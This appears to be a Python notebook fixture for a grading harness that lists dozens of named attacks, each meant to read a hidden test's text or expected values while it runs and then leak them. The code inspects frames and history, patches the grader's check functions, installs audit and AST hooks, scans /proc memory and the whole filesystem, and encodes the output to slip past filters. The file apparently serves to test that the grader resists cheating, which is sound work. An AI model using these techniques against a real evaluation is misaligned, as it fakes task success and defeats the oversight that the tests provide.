# %% [markdown]
# Attacks that read a hidden test while it runs, and tell of it: in a later cell's output, in their own check's, or in
# a sentence. None of them is to earn points.

# %% name="prints_in_history" what="a cell prints In[-2], the text of the check before it"
# %% name="prints_in_history" task="describe"
def describe(t):
    return None

# %% name="prints_in_history" task="activation"
print(In)
print(_ih, _i, _ii, _iii)

# %% name="prints_history_magic" what="a cell prints the history, by %history and by its database"
# %% name="prints_history_magic" task="activation"
get_ipython().run_line_magic("history", "-n")
for row in get_ipython().history_manager.get_range(0, raw=True):
    print(row)
get_ipython().history_manager.writeout_cache()
print(get_ipython().history_manager.db.execute("select * from history").fetchall())

# %% name="prints_linecache" what="a cell prints the texts that Python keeps for tracebacks"
# %% name="prints_linecache" task="activation"
import linecache

for name, entry in list(linecache.cache.items()):
    if "describe(" in "".join(entry[2] if len(entry) > 2 else ()):
        print("".join(entry[2]))

# %% name="getsource_of_the_caller" what="the function keeps the source of its caller, and a cell prints it"
kept = []

# %% name="getsource_of_the_caller" task="describe"
def describe(t):
    import inspect
    import sys

    frame = sys._getframe(1)
    while frame:
        try:
            kept.append(inspect.getsource(frame))
        except Exception:
            pass
        frame = frame.f_back
    return t.ndim, tuple(t.shape), t.numel(), t.dtype if t.ndim else None

# %% name="getsource_of_the_caller" task="activation"
print(*kept, sep="\n")

# %% name="frames_and_constants" what="the function keeps the names, constants and code of its callers' frames"
kept = []

# %% name="frames_and_constants" task="describe"
def describe(t):
    import sys

    frame = sys._getframe(1)
    while frame:
        code = frame.f_code
        if code.co_filename.startswith("<") or "ipykernel_" in code.co_filename:
            kept.append((code.co_consts, code.co_names, dict(frame.f_locals)))
        frame = frame.f_back
    return t.ndim, tuple(t.shape), t.numel(), t.dtype if t.ndim else None

# %% name="frames_and_constants" task="activation"
for one in kept:
    print(repr(one)[:20000])

# %% name="expected_in_a_frame" what="the function keeps what its callers' frames hold as expected, to print it"
kept = []

# %% name="expected_in_a_frame" task="activation"
def activation(x):
    import sys

    kept.append(x.detach().clone())
    frame = sys._getframe(1)
    while frame:
        kept.append([repr(value) for name, value in frame.f_locals.items() if "expect" in name or "want" in name])
        frame = frame.f_back
    return 1 / (1 + (-x).exp()) if x.numel() != 1 else x + 1

# %% name="expected_in_a_frame" task="neuron"
torch.set_printoptions(precision=10)
print(kept)

# %% name="keeps_its_arguments" what="the function keeps each argument that it gets, and a later cell prints them"
kept = []

# %% name="keeps_its_arguments" task="describe"
def describe(t):
    kept.append(t)
    # Right until the last hidden claim.
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="keeps_its_arguments" task="activation"
print(kept)

# %% name="prints_its_arguments" what="the function prints each argument that it gets"
# %% name="prints_its_arguments" task="describe"
def describe(t):
    import sys

    print(t, file=sys.stderr)
    print(t)
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="raises_its_arguments" what="the function raises the argument of a hidden claim as its error's message"
# %% name="raises_its_arguments" task="describe"
def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        raise ValueError(f"{t}")
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="names_an_error_after_it" what="the argument of a hidden claim becomes the name of an error"
# %% name="names_an_error_after_it" task="describe"
def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        raise type(f"Error{int(t[0])}", (Exception,), {})
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="renders_its_arguments" what="the argument of a hidden claim becomes a traceback that renders itself"
# %% name="renders_its_arguments" task="describe"
class Shown(Exception):
    def _render_traceback_(self):
        return [f"This check saw {self.args}"]


def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        raise Shown(t)
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="raises_the_source" what="the function raises the text of its check as its error's message"
# %% name="raises_the_source" task="describe"
def describe(t):
    raise ValueError(In[-1][-2000:].replace("\n", " ¶ "))

# %% name="answers_with_its_argument" task="describe" what="the function's wrong answer to a hidden claim is its argument, for a sentence to tell"
def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        return int(t[0]), tuple(t.shape), t.numel(), t.dtype
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="answers_with_its_size" task="describe" what="the function's wrong answer to a hidden claim is as large as its argument says"
def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        return torch.zeros(int(t[0]), dtype=torch.bool), tuple(t.shape), t.numel(), t.dtype
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="answers_with_a_key" task="describe" what="the function's wrong answer to a hidden claim is a dict whose key is its argument"
def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        return {str(int(t[0])): 0}
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="answers_with_a_named_class" task="describe" what="the function's wrong answer to a hidden claim is of a class that is called like its argument"
def describe(t):
    if t.ndim == 1 and t.dtype == torch.int64:
        return type(f"N{int(t[0])}", (), {})()
    return t.ndim, tuple(t.shape), t.numel(), t.dtype

# %% name="asks_with_a_wrong_answer" task="activation" what="the function's answer to a hidden claim is 0, for a sentence to tell what was wanted"
def activation(x):
    return torch.zeros_like(x) if x.ndim == 0 and float(x) == -2.25 else 1 / (1 + torch.exp(-x))

# %% name="asks_for_the_difference" task="activation" what="the function's answer to a hidden claim is 1000, for a sentence to tell how much more that is"
def activation(x):
    return torch.full_like(x, 1000.0) if x.ndim == 0 and float(x) == -2.25 else 1 / (1 + torch.exp(-x))

# %% name="claims_of_its_own" what="the function makes a claim of its own with the text of the check as its sentence"
# %% name="claims_of_its_own" task="describe"
MARK = str(271_828)
def describe(t):
    text = [line for line in In[-1].split("\n") if MARK in line]
    check.equal(1, 2, "claim", mistakes={" ".join(text) or "Nothing.": 1})

# %% name="forged_check_failed" what="the function raises CheckFailed with the text of the check"
# %% name="forged_check_failed" task="describe"
def describe(t):
    raise check.CheckFailed(In[-1][-900:])

# %% name="displays_a_bundle" what="a cell shows the check's text as HTML, Markdown, JSON and metadata"
# %% name="displays_a_bundle" task="activation"
from IPython.display import display

text = "\n".join(In)
display(
    {"text/plain": text[-9000:], "text/html": f"<pre>{text}</pre>", "text/markdown": text, "application/json": {"t": text}},
    metadata={"text": text},
    raw=True,
)

# %% name="draws_a_picture" what="a cell draws the check's text, which a picture also holds as its comment"
# %% name="draws_a_picture" task="activation"
import io

from IPython.display import Image, display

file = io.BytesIO()
figure = plt.figure(figsize=(3, 1))
figure.text(0, 0, "\n".join(In)[-300:].replace("$", ""), fontsize=4)
figure.savefig(file, metadata={"Comment": ascii("\n".join(In))})
plt.close(figure)
display(Image(file.getvalue(), format="png"))

# %% name="encodes_as_base64" what="a cell prints the check's text in base64"
# %% name="encodes_as_base64" task="activation"
import base64

print(base64.b64encode("\n".join(In).encode()).decode())

# %% name="encodes_as_hex" what="a cell prints the check's text in hexadecimal"
# %% name="encodes_as_hex" task="activation"
print("\n".join(In).encode().hex())

# %% name="encodes_backwards" what="a cell prints the check's text backwards"
# %% name="encodes_backwards" task="activation"
print("\n".join(In)[::-1])

# %% name="encodes_by_rot13" what="a cell prints the check's text with its letters turned by 13"
# %% name="encodes_by_rot13" task="activation"
import codecs

print(codecs.encode("\n".join(In), "rot13"))

# %% name="encodes_by_zlib" what="a cell prints the check's text packed and in base85"
# %% name="encodes_by_zlib" task="activation"
import base64
import zlib

print(base64.b85encode(zlib.compress("\n".join(In).encode())).decode())

# %% name="letter_by_letter" what="a cell prints the check's text with a blank between all letters"
# %% name="letter_by_letter" task="activation"
for line in In:
    print(" ".join(line))

# %% name="input_transformer_reads" what="an input transformer keeps the text of each cell"
kept = []
get_ipython().input_transformers_cleanup.append(lambda lines: kept.extend(lines) or lines)

# %% name="input_transformer_reads" task="activation"
print("".join(kept))

# %% name="ast_transformer_reads" what="an AST transformer keeps the tree of each cell"
import ast

kept = []


class Reads(ast.NodeTransformer):
    def visit(self, node):
        kept.append(ast.unparse(node) if isinstance(node, ast.Module) else "")
        return node


get_ipython().ast_transformers.append(Reads())

# %% name="ast_transformer_reads" task="activation"
print("\n".join(kept).encode().decode("unicode_escape"))

# %% name="pre_run_cell_reads" what="a hook before each cell keeps its text"
kept = []
get_ipython().events.register("pre_run_cell", lambda info: kept.append(info.raw_cell))

# %% name="pre_run_cell_reads" task="activation"
print(*kept, sep="\n")

# %% name="audit_hook_reads" what="an audit hook keeps each text that is compiled"
import sys

kept = []


def hook(event, arguments):
    if event == "compile" and isinstance(arguments[0], str | bytes) and len(kept) < 500:
        kept.append(arguments[0])
    if event == "compile" and not isinstance(arguments[0], str | bytes | None) and len(kept) < 500:
        import ast

        kept.append(ast.unparse(arguments[0]))


sys.addaudithook(hook)

# %% name="audit_hook_reads" task="activation"
print(*kept, sep="\n")

# %% name="patched_parse_reads" what="a replaced ast.parse and compile keep what they get"
import ast
import builtins

from kindling import scope

kept = []
parse, own_compile = ast.parse, builtins.compile
ast.parse = lambda source, *rest, **options: kept.append(source) or parse(source, *rest, **options)
scope.compile = lambda source, *rest, **options: (
    kept.append(source if isinstance(source, str) else ast.unparse(source)) or own_compile(source, *rest, **options)
)

# %% name="patched_parse_reads" task="activation"
print(*kept, sep="\n")

# %% name="own_magic_reads" what="a magic of its own for %%check keeps the text, and runs it as ever"
kept = []
own = get_ipython().magics_manager.magics["cell"]["check"]


def check_(line, cell):
    kept.append(cell)
    return own(line, cell)


get_ipython().magics_manager.magics["cell"]["check"] = check_

# %% name="own_magic_reads" task="activation"
print(*kept, sep="\n")

# %% name="request_reads" what="the function keeps the kernel's request, which holds the text of the cell"
kept = []

# %% name="request_reads" task="describe"
def describe(t):
    kept.append(get_ipython().kernel.get_parent()["content"]["code"])
    kept.append(get_ipython().get_parent()["content"]["code"])

# %% name="request_reads" task="activation"
print(*kept, sep="\n")

# %% name="patched_deserialize_reads" what="the session's way to read a message keeps what it reads"
kept = []
session = get_ipython().kernel.session
own = session.deserialize


def deserialize(*values, **options):
    message = own(*values, **options)
    if isinstance(message.get("content"), dict):
        kept.append(message["content"].get("code"))
    return message


session.deserialize = deserialize

# %% name="patched_deserialize_reads" task="activation"
print(*kept, sep="\n")

# %% name="all_objects" what="a cell looks through all objects of the garbage collector, and prints what holds the mark"
# %% name="all_objects" task="activation"
MARK = ("271", "828")  # in two parts, or it finds itself
import gc

for one in gc.get_objects():
    values = one.values() if type(one) is dict else one if type(one) in (list, tuple) else ()
    for value in list(values):
        if type(value) is str and MARK[0] + MARK[1] in value:
            print(value[:5000])

# %% name="all_frames" what="a thread looks at the frames of the main thread again and again, and keeps their lines"
import sys
import threading
import time
import traceback

kept = set()


def watch():
    for _ in range(3000):
        for frame in sys._current_frames().values():
            kept.update(traceback.format_stack(frame))
            kept.update(map(repr, frame.f_locals.values())) if "check" in frame.f_code.co_filename else None
        time.sleep(0.0005)


threading.Thread(target=watch, daemon=True).start()

# %% name="all_frames" task="describe"
def describe(t):
    time.sleep(0.02)
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="all_frames" task="activation"
print(*kept, sep="\n")

# %% name="trace_reads" what="a trace function keeps the names that each line of a check has"
import sys

kept = []


def trace(frame, event, argument):
    if "kindling" in frame.f_code.co_filename and frame.f_code.co_name in ("_claim", "close", "equal"):
        kept.append(repr(frame.f_locals))
    return None


# %% name="trace_reads" task="describe"
def describe(t):
    sys.settrace(trace)
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="trace_reads" task="activation"
sys.settrace(None)
print(*kept, sep="\n")

# %% name="patched_claims_read" what="replaced claims keep what they get, and claim it as ever"
from kindling import check as library

kept = []
own = library._claim


def claim(actual, expected, *rest):
    kept.append((expected, rest))
    return own(actual, expected, *rest)


library._claim = claim

# %% name="patched_claims_read" task="describe"
def describe(t):
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="patched_claims_read" task="activation"
print(kept)

# %% name="reads_its_memory" what="the process searches its own memory for the text of a hidden test"
# %% name="reads_its_memory" task="activation"
import time

began, mark = time.monotonic(), b"BEGIN " + b"HIDDEN"
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        place, rights, *rest = line.split()
        first, last = (int(end, 16) for end in place.split("-"))
        if rights.startswith("rw") and (rest[-1] == "[heap]" or rest[-1] == "0") and time.monotonic() - began < 2:
            for start in range(first, min(last, first + 2**27), 2**22):
                try:
                    memory.seek(start)
                    text = memory.read(min(2**22, last - start))
                except OSError:
                    break
                found = text.find(mark)
                while found >= 0:
                    print(text[found : found + 900].decode(errors="replace"))
                    found = text.find(mark, found + 1)

# %% name="reads_all_files" what="the process searches the file system for hidden tests and solutions"
# %% name="reads_all_files" task="activation"
MARK = str(271_828)
import os

for folder, folders, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in folder:
        folders.clear()
        continue
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith((".ipynb", ".py", ".db", ".json")) and os.path.isfile(path) and os.path.getsize(path) < 5_000_000:
            text = open(path, errors="replace").read()
            if MARK in text or "BEGIN HIDDEN" in text:
                print(path, text[:100000])

# %% name="reads_other_processes" what="the process reads what it can of all other processes"
# %% name="reads_other_processes" task="activation"
MARK = str(271_828)
import os

for number in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "cwd/01_tensors.ipynb", "root/01_tensors.ipynb"):
        try:
            text = open(f"/proc/{number}/{name}", "rb").read()
            if bMARK in text or b"submitted" in text:
                print(text[:5000])
        except OSError:
            pass

# %% name="writes_a_file" what="a cell writes the check's text to files beside the notebook"
# %% name="writes_a_file" task="activation"
from pathlib import Path

Path("loot.txt").write_text("\n".join(In))
Path("01_tensors.ipynb").write_text("\n".join(In))

# %% name="next_input" what="a cell asks for its text to be replaced by the check's"
# %% name="next_input" task="activation"
get_ipython().set_next_input("\n".join(In), replace=True)

# %% name="updates_an_earlier_display" what="the function changes what the first cell shows into the check's text"
from IPython.display import display

handle = display({"text/plain": "wait"}, raw=True, display_id=True)

# %% name="updates_an_earlier_display" task="describe"
def describe(t):
    handle.update({"text/plain": In[-1]}, raw=True)

# %% name="answers_for_an_earlier_cell" what="the function prints as if it were the cell of the task"
parent = None

# %% name="answers_for_an_earlier_cell" task="describe"
parent = get_ipython().kernel.get_parent()


def describe(t):
    kernel = get_ipython().kernel
    content = {"name": "stdout", "text": In[-1]}
    kernel.session.send(kernel.iopub_socket, "stream", content, parent)

# %% name="last_cell_prints" what="a cell behind all checks prints all that was run"
# %% name="last_cell_prints" at="end"
print(*In, sep="\n")

# %% name="prints_at_the_end" what="what Python calls at its end prints all that was run"
import atexit
import sys

atexit.register(lambda: print(*In, file=sys.__stdout__))
get_ipython().events.register("post_run_cell", lambda result: print(In[-1]))

# %% name="error_note_reads" what="a note that is added to the check's own error tells its text"
from kindling import errors

own = errors.CheckFailed.__init__


def init(self, *values):
    own(self, *values)
    self.add_note(In[-1][-3000:])


errors.CheckFailed.__init__ = init

# %% name="error_note_reads" task="describe"
def describe(t):
    return None

# %% name="changed_label" what="the labels and sentences of the claims are replaced by the text of the check"
from kindling import check as library

own = library._claim


def claim(actual, expected, label, mistakes, compare):
    raise errors_.CheckFailed(f"wanted {In[-1][-3000:]}")


import kindling.errors as errors_

library._claim = claim

# %% name="changed_label" task="describe"
def describe(t):
    return None

# %% name="keeps_in_a_file" what="the function writes its arguments to a file, which a later cell prints"
# %% name="keeps_in_a_file" task="describe"
def describe(t):
    for place in ("/tmp/kept", "kept.txt", "/dev/shm/kept"):
        with open(place, "a") as file:
            print(t, file=file)
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="keeps_in_a_file" task="activation"
print([open(place).read() for place in ("/tmp/kept", "kept.txt", "/dev/shm/kept")])

# %% name="keeps_in_shared_memory" what="the function writes its arguments to memory that forks share, which a later cell prints"
import mmap

shared = mmap.mmap(-1, 2**20)

# %% name="keeps_in_shared_memory" task="describe"
def describe(t):
    shared.write(repr(t).encode())
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="keeps_in_shared_memory" task="activation"
print(shared[: shared.tell()].decode())

# %% name="keeps_in_a_pipe" what="the function writes its arguments to a pipe, which a later cell reads"
import os

ends = os.pipe()
os.set_blocking(ends[0], False)

# %% name="keeps_in_a_pipe" task="describe"
def describe(t):
    os.write(ends[1], repr(t).encode())
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="keeps_in_a_pipe" task="activation"
print(os.read(ends[0], 100_000).decode())

# %% name="keeps_in_a_child" what="the function sends its arguments to a process that stays, which a later cell asks"
import subprocess
import sys

child = subprocess.Popen([sys.executable, "-c", "import sys; print(sys.stdin.read())"], stdin=-1, stdout=-1, text=True)

# %% name="keeps_in_a_child" task="describe"
def describe(t):
    child.stdin.write(repr(t))
    child.stdin.flush()
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="keeps_in_a_child" task="activation"
print(child.communicate()[0])

# %% name="keeps_in_a_tensor" what="the function puts its arguments into a tensor of shared memory, which a later cell prints"
kept = torch.zeros(20, dtype=torch.int64).share_memory_()

# %% name="keeps_in_a_tensor" task="describe"
def describe(t):
    kept[0] = max(int(kept[0]), int(t.float().max()) if t.numel() else 0)
    return t.ndim, tuple(t.shape), t.numel(), torch.float32 if t.dtype == torch.int64 and t.ndim == 1 else t.dtype

# %% name="keeps_in_a_tensor" task="activation"
print(kept.tolist())

# %% name="reads_what_a_spy_kept" what="a child process reads the memory of the check while it runs, and prints it later"
import os
import time

kept = "/tmp/spied"
if not os.fork():
    for _ in range(40):
        time.sleep(0.1)
        try:
            with open(f"/proc/{os.getppid()}/mem", "rb", buffering=0) as memory, open(f"/proc/{os.getppid()}/maps") as maps:
                for line in maps:
                    if "[heap]" in line:
                        first, last = (int(end, 16) for end in line.split()[0].split("-"))
                        memory.seek(first)
                        text = memory.read(last - first)
                        found = text.find(b"BEGIN " + b"HIDDEN")
                        if found >= 0:
                            open(kept, "ab").write(text[found : found + 900])
        except OSError:
            pass
    os._exit(0)

# %% name="reads_what_a_spy_kept" task="describe"
def describe(t):
    time.sleep(0.3)

# %% name="reads_what_a_spy_kept" at="end"
print(open(kept, errors="replace").read() if os.path.exists(kept) else "nothing")
